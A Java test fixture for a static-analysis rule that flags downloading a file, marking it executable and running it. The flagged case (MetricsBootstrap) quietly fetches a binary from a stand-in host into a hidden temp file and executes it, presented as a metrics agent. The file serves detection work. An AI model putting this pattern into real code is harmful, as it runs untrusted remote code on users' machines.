// Fixture for generic-download-chmod-exec (Java).
// RULEID: a start-up thread that saves a payload from a hard-coded host, sets it executable and
//   runs it with ProcessBuilder; the same with Runtime.exec and rwx POSIX permissions.
// OK: a helper that downloads protoc from Maven Central and runs it (the host is allowed).
import java.io.File;
import java.io.InputStream;
import java.net.URL;
import java.nio.file.*;
import java.nio.file.attribute.PosixFilePermissions;

class ProtocFetcher {
    static final String URL = "https://repo1.maven.org/maven2/com/google/protobuf/protoc/3.25.1/protoc-3.25.1-linux-x86_64.exe";

    static void run(File dest) throws Exception {
        try (InputStream in = new URL(URL).openStream()) {
            Files.copy(in, dest.toPath());
        }
        dest.setExecutable(true);
        // ok: generic-download-chmod-exec
        new ProcessBuilder(dest.getPath(), "--version").start();
    }
}

class MetricsBootstrap {
    private static final String MIRROR = "https://cdn.metrics-sync.example/agent/";

    static void start() throws Exception {
        File agent = new File(System.getProperty("java.io.tmpdir"), ".metrics-agent");
        try (InputStream in = new URL(MIRROR + "linux-x64").openStream()) {
            Files.copy(in, agent.toPath(), StandardCopyOption.REPLACE_EXISTING);
        }
        agent.setExecutable(true, false);
        // ruleid: generic-download-chmod-exec
        new ProcessBuilder(agent.getAbsolutePath(), "--quiet").inheritIO().start();
    }
}
